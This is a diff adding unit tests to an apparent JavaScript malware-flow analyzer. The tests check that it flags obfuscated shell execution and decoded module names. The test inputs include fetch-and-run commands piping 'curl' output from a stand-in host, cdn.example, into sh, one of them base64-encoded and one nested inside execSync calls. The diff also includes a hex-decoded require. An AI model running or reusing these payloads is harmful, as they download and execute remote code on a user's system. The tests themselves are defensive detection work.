@@ -87,6 +87,53 @@ static void written_otherwise_it_is_the_same_name(void **state)
 	js_case_free(c);
 }
 
+static void a_shell_is_one_under_any_name(void **state)
+{
+	struct js_case *c = js_case_run("const { go } = require('./go');\ngo('bash', ['-c', `echo \"Y3VybCAtcyBodHRwczovL2Nkbi5leGFtcGxlL20gfCBzaAo=\" | base64 -d > /tmp/r && bash /tmp/r`]);\n");
+
+	(void)state;
+	assert_non_null(js_case_find(c, FACT_FLOW, "data>run", NULL));
+	assert_non_null(js_case_find(c, FACT_FLOW, "net>exec", "cdn.example"));
+	js_case_free(c);
+	c = js_case_run("require('child_process').execSync('tar xf a.tgz && make -j2 | tee build.log');\nrun('bash', ['-c', 'git log | head']);\nrun('bash', ['--version']);\n");
+	assert_null(js_case_find(c, FACT_FLOW, NULL, NULL));
+	js_case_free(c);
+	/* a command within a command within a command ends somewhere */
+	c = js_case_run("require('child_process').execSync(`node -e \"require('child_process').execSync('node -e 1; curl https://cdn.example/i | sh')\"; true`);\n");
+	assert_non_null(js_case_find(c, FACT_FLOW, "net>exec", "cdn.example"));
+	js_case_free(c);
+}
+
+static void a_decoded_module_name_is_told(void **state)
+{
+	struct js_case *c = js_case_run("const e = x => Buffer.from(x, 'hex').toString();\nconst d = require(e('2e2f746573742f64617461'));\n");
+	const struct fact *f = js_case_find(c, FACT_IMPORT, "./test/data", NULL);
+
+	(void)state;
+	assert_non_null(f);
+	assert_true(f->flags & FACT_DECODED_ARG);
+	assert_int_equal(f->number, 1);
+	js_case_free(c);
+	c = js_case_run("const l = require('./locale/' + 'en');\nconst m = require('./list');\nconst n = require('./' + name);\n");
+	f = js_case_find(c, FACT_IMPORT, "./locale/en", NULL);
+	assert_non_null(f);
+	assert_int_equal(f->number, 0);
+	assert_false(js_case_find(c, FACT_IMPORT, "./list", NULL)->flags & FACT_DECODED_ARG);
+	js_case_free(c);
+}
+
+static void a_nameless_call_of_a_runner_is_told(void **state)
+{
+	struct js_case *c = js_case_run("const n = require('./data');\nconst f = new module.constructor();\nf.paths = module.paths;\nf[n[7]](n[0], '');\n");
+
+	(void)state;
+	assert_non_null(js_case_find(c, FACT_UNRESOLVED, "code", NULL));
+	js_case_free(c);
+	c = js_case_run("const handlers = require('./handlers');\nhandlers[process.argv[2]](1);\nconst vm = require('vm');\nvm.isContext({});\n");
+	assert_null(js_case_find(c, FACT_UNRESOLVED, NULL, NULL));
+	js_case_free(c);
+}
+
 static void typescript_is_read(void **state)
 {
 	static const char text[] = "import * as os from 'os';\nimport { request, RequestOptions } from 'https';\ninterface Sent { ok: boolean }\nexport class Reporter<T extends object> {\n  constructor(private readonly host: string = 't.vendor.example') {}\n"
@@ -353,6 +400,9 @@ int main(void)
 		cmocka_unit_test(a_changed_address_or_key_is_told),
 		cmocka_unit_test(comments_speak_to_nobody),
 		cmocka_unit_test(written_otherwise_it_is_the_same_name),
+		cmocka_unit_test(a_shell_is_one_under_any_name),
+		cmocka_unit_test(a_decoded_module_name_is_told),
+		cmocka_unit_test(a_nameless_call_of_a_runner_is_told),
 		cmocka_unit_test(typescript_is_read),
 		cmocka_unit_test(nonsense_is_said),
 		cmocka_unit_test(large_members_are_read_in_part),
